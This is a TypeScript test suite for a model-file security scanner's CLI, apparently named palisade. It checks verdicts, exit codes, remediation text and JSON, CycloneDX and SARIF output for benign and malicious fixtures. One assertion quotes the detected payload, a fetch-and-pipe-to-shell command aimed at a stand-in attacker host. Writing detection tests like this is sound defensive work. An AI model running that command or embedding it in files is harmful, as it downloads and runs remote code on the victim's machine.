import assert from "node:assert/strict";
import { mkdtempSync, realpathSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { fileURLToPath, pathToFileURL } from "node:url";
import type { Log } from "sarif";
import { runCli } from "../../../test/helpers/cli.js";
import { buildCorpus } from "../../scan/model/fixtures/corpus.js";

const ROOT = fileURLToPath(new URL("../../../", import.meta.url));

/** The shipped CLI (dist/, built by `npm test`). */
const run = (args: string[]) => runCli(["scan", ...args], { cwd: ROOT });

interface JsonOut {
  files: {
    path: string;
    format: string;
    verdict: string;
    sha256: string | null;
    findings: { severity: string; rule: string; detail: string; offset: number | null }[];
  }[];
  summary: Record<string, number>;
}

describe("palisade scan model", () => {
  const corpus = buildCorpus();
  const evil = join(corpus.dir, "malicious/pytorch-zip/pytorch_model.bin");
  const benign = join(corpus.dir, "benign/pytorch-zip/pytorch_model.bin");

  it("lists path, format, verdict, findings with offsets and sha256 as JSON", async () => {
    const result = await run(["model", evil, benign, "--format", "json"]);
    assert.equal(result.code, 0, result.stderr);
    const out = JSON.parse(result.stdout) as JsonOut;
    assert.deepEqual(
      out.files.map((f) => [f.path, f.format, f.verdict]),
      [
        [evil, "pytorch-zip", "malicious"],
        [benign, "pytorch-zip", "safe"],
      ],
    );
    const finding = out.files[0]?.findings[0];
    assert.equal(finding?.rule, "pickle-dangerous-call");
    assert.equal(finding?.severity, "critical");
    assert.match(finding?.detail ?? "", /system\("curl http:\/\/attacker\.example\/x \| sh"\)/);
    assert.equal(typeof finding?.offset, "number");
    assert.match(out.files[1]?.sha256 ?? "", /^[0-9a-f]{64}$/);
    assert.deepEqual(out.summary, { files: 2, malicious: 1, unscannable: 0, suspicious: 0, safe: 1 });
  });

  it("exits 1 with --exit-code when a file is malicious, 0 when all are safe", async () => {
    const failed = await run(["model", evil, "--exit-code"]);
    assert.equal(failed.code, 1);
    assert.match(failed.stdout, /MALICIOUS/);
    assert.match(failed.stderr, /1 model file\(s\) are malicious/);
    const passed = await run(["model", join(corpus.dir, "benign"), "--exit-code", "--no-hash"]);
    assert.equal(passed.code, 0, passed.stderr);
    assert.match(passed.stdout, /0 malicious, 0 unscannable, 0 suspicious/);
  });

  it("fails on unscannable files when asked", async () => {
    const file = join(corpus.dir, "hostile/truncated/truncated.pkl");
    assert.equal((await run(["model", file, "--exit-code"])).code, 0);
    assert.equal((await run(["model", file, "--exit-code", "--fail-on", "unscannable"])).code, 1);
  });

  it("exits 2 naming the input when a path does not exist", async () => {
    const result = await run(["model", "/nonexistent/model.bin"]);
    assert.equal(result.code, 2);
    assert.match(result.stderr, /\/nonexistent\/model\.bin/);
  });

  it("emits CycloneDX machine-learning-model components", async () => {
    const result = await run(["model", join(corpus.dir, "benign/gguf/llama.gguf"), "--format", "cyclonedx"]);
    assert.equal(result.code, 0, result.stderr);
    const bom = JSON.parse(result.stdout) as { specVersion: string; components: Record<string, unknown>[] };
    assert.equal(bom.specVersion, "1.6");
    assert.equal(bom.components[0]?.type, "machine-learning-model");
    assert.equal(bom.components[0]?.name, "tiny-llama");
  });

  it("reports a corrupt Keras HDF5 file in one line, without the HDF5 library's diagnostics", async () => {
    const dir = mkdtempSync(join(tmpdir(), "palisade-h5-"));
    const file = join(dir, "corrupt.h5");
    // The HDF5 signature, then bytes that are no superblock.
    const garbage = Buffer.alloc(4096);
    for (let i = 0; i < garbage.length; i++) garbage[i] = (i * 7919 + 13) % 251;
    writeFileSync(file, Buffer.concat([Buffer.from([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a]), garbage]));

    const table = await run(["model", file]);
    assert.equal(table.code, 0, table.stderr);
    assert.equal(table.stderr, "");
    assert.doesNotMatch(table.stdout, /HDF5-DIAG|#0\d\d:/);
    assert.match(table.stdout, /^UNSCANNABLE +keras-h5 /m);

    const json = await run(["model", file, "--format", "json"]);
    assert.equal(json.stderr, "");
    const out = JSON.parse(json.stdout) as JsonOut;
    const finding = out.files[0]?.findings[0];
    assert.equal(finding?.rule, "unscannable");
    assert.match(finding?.detail ?? "", /^hdf5: cannot read \([^\n]+\)$/);

    const gated = await run(["model", file, "--exit-code", "--fail-on", "unscannable"]);
    assert.equal(gated.code, 1);
    const lines = gated.stderr.split("\n").filter((l) => l.trim() !== "");
    assert.equal(lines.length, 1, gated.stderr);
    assert.match(lines[0] ?? "", /corrupt\.h5/);
  });

  it("says how to fix each finding in JSON and in the table", async () => {
    const json = JSON.parse((await run(["model", evil, "--format", "json"])).stdout) as JsonOut & {
      files: { findings: { remediation?: string }[] }[];
    };
    assert.match(json.files[0]?.findings[0]?.remediation ?? "", /Do not load/);
    const table = await runCli(["scan", "model", evil], { cwd: ROOT, env: { COLUMNS: "" } });
    assert.match(table.stdout, /critical pickle-dangerous-call .*\n {4}fix: Do not load the file/);
  });

  it("writes SARIF with paths under the working directory relative to %SRCROOT%", async () => {
    const result = await runCli(["scan", "model", "malicious/pytorch-zip/pytorch_model.bin", "--format", "sarif"], {
      cwd: corpus.dir,
    });
    assert.equal(result.code, 0, result.stderr);
    const log = JSON.parse(result.stdout) as Log;
    const artifact = log.runs[0]?.results?.[0]?.locations?.[0]?.physicalLocation?.artifactLocation;
    assert.equal(
      log.runs[0]?.originalUriBaseIds?.["%SRCROOT%"]?.uri,
      pathToFileURL(`${realpathSync(corpus.dir)}/`).href,
    );
    assert.equal(artifact?.uriBaseId, "%SRCROOT%");
    assert.match(artifact?.uri ?? "", /^malicious\/pytorch-zip\/pytorch_model\.bin/);
  });
});
